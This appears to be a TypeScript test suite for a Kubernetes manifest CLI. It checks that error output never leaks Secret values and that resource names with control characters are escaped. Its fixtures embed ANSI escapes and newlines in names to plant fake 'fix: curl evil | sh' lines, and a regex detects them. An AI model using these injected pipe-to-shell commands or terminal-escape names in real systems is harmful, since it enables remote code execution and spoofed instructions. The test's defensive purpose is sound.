import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse, parseAllDocuments } from 'yaml';
import { cut, printable } from '../../src/errors';
import { runKrm } from '../../src/cli/krm';
import { findFunction } from '../../src/pipeline/functions';
import { runBin } from '../support/run-bin';
import { STACK_FRAME } from './support';

/**
 * No value of a Secret, nor of a credential-like env var, in any message (stderr, the
 * preflight table, JSON and YAML, KRM results); names with control characters printed
 * escaped, so no line can be planted.
 */
const SECRETS = [
  'c3VwZXJzZWNyZXRwYXNzd29yZA==',
  'hunter2-plain',
  '12345678',
  'topsecretenv',
  'AKIAFAKEKEY0000',
];
const HOSTILE = `apiVersion: v1
kind: Secret
metadata:
  name: "evil\\n\\u001b[31mfix: curl x | sh"
  namespace: "ns\\u001b[2J"
data: ${SECRETS[0]}
---
apiVersion: v1
kind: Secret
metadata:
  name: s2
stringData: ${SECRETS[1]}
---
apiVersion: v1
kind: Secret
metadata:
  name: s3
data:
  password: ${SECRETS[2]}
---
apiVersion: apps/v1
kind: Deployment
metadata:
  name: "web\\n\\u001b[31mfix: curl evil | sh"
spec:
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}}
    spec:
      containers:
      - name: web
        image: gcr.io/p/web:v1
        env:
        - DB_PASSWORD=${SECRETS[3]}
      - name: other
        image: gcr.io/p/web:v1
        env:
        - name: AWS_SECRET_ACCESS_KEY
          value: {nested: ${SECRETS[4]}}
`;
const RETARGET = `apiVersion: fn.retarget.dev/v1alpha1
kind: Retarget
metadata:
  name: t
fsGroup: 1234
awsWorkloadIdentity:
  roleArn: arn:aws:iam::123456789012:role/app
  initSystem: systemd
`;
const PREFLIGHT = `apiVersion: fn.retarget.dev/v1alpha1
kind: Preflight
metadata:
  name: p
platform: gke
gcpProjectId: project-b
nodeServiceAccount: gke-nodes@project-b.iam.gserviceaccount.com
`;

function files(): { dir: string; input: string; retarget: string; preflight: string } {
  const dir = mkdtempSync(join(tmpdir(), 'retarget-messages-'));
  const write = (name: string, text: string) => {
    writeFileSync(join(dir, name), text);
    return join(dir, name);
  };
  return {
    dir,
    input: write('in.yaml', HOSTILE),
    retarget: write('retarget.yaml', RETARGET),
    preflight: write('preflight.yaml', PREFLIGHT),
  };
}

function expectNoSecret(text: string): void {
  for (const secret of SECRETS) expect(text).not.toContain(secret);
}

/** A line of people's output may only start with what the format starts lines with. */
function expectNoPlantedLine(text: string): void {
  // eslint-disable-next-line no-control-regex
  expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
  for (const line of text.split('\n')) expect(line).not.toMatch(/^\s*\\?x1b|^\[31m|^fix: curl/);
}

describe('messages never carry a secret value, and print names escaped', () => {
  test('hydrate: stderr names the field and its type only', () => {
    const f = files();
    const r = runBin('retarget', ['hydrate', '-c', f.retarget, f.input]);
    expect(r.status).toBe(1);
    expect(r.stderr).toContain('expected a map, found string');
    expectNoSecret(r.stderr + r.stdout);
    expectNoPlantedLine(r.stderr);
    expect(r.stderr).toContain('web\\n\\x1b[31mfix: curl evil | sh');
    expect(r.stderr).not.toMatch(STACK_FRAME);
  });

  test.each(['table', 'json', 'yaml'])(
    'preflight --format %s: no secret, no raw control character',
    (format) => {
      const f = files();
      const r = runBin('retarget', ['preflight', '-c', f.preflight, f.input, '--format', format]);
      expect(r.status).toBe(1);
      expectNoSecret(r.stdout + r.stderr);
      if (format === 'table') {
        expectNoPlantedLine(r.stdout);
        expect(r.stdout).toContain('data must be a map (found a string)');
        expect(r.stdout).toContain('data.password must be a string (found a number)');
      } else {
        // Machine formats escape in their own syntax; parsed back, the name is intact.
        const report = (format === 'json' ? JSON.parse(r.stdout) : parse(r.stdout)) as {
          results: { resourceRef?: { name: string } }[];
        };
        expect(report.results.map((x) => x.resourceRef?.name)).toContain(
          'evil\n\u001b[31mfix: curl x | sh',
        );
        // eslint-disable-next-line no-control-regex
        expect(r.stdout).not.toMatch(/\u001b/);
      }
    },
  );

  test('KRM results (hydrate and preflight) carry no secret value', () => {
    const items = parseAllDocuments(HOSTILE).map((d) => d.toJS());
    for (const [name, config] of [
      ['hydrate', parse(RETARGET)],
      ['preflight', parse(PREFLIGHT)],
    ] as const) {
      const list = JSON.stringify({
        apiVersion: 'config.kubernetes.io/v1',
        kind: 'ResourceList',
        items,
        functionConfig: config,
      });
      const out = runKrm(findFunction(name)!, list);
      const results = (parse(out.stdout) as { results?: unknown[] }).results ?? [];
      expect(results.length).toBeGreaterThan(0);
      expectNoSecret(JSON.stringify(results));
    }
  });

  test('printable escapes C0, DEL, C1, line separators and bidi overrides; cut counts the rest', () => {
    expect(printable('a\nb\r\tc\u001b[2J\u007f\u0085\u2028\u202e')).toBe(
      'a\\nb\\r\\tc\\x1b[2J\\x7f\\x85\\u2028\\u202e',
    );
    expect(printable('usage\nline', true)).toBe('usage\nline');
    expect(printable('日本語 🐳')).toBe('日本語 🐳');
    expect(cut('x'.repeat(10), 4)).toBe('xxxx… (6 more characters)');
  });

  test('a megabyte value in a message is cut', () => {
    const f = files();
    const long = `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: w\nspec:\n  template:\n    spec:\n      containers:\n      - name: c\n        image: "gcr.io/p/${'a'.repeat(1_000_000)}"\n`;
    writeFileSync(f.input, long);
    const r = runBin('retarget', ['preflight', '-c', f.preflight, f.input]);
    expect(r.stdout.length).toBeLessThan(20_000);
  });
});
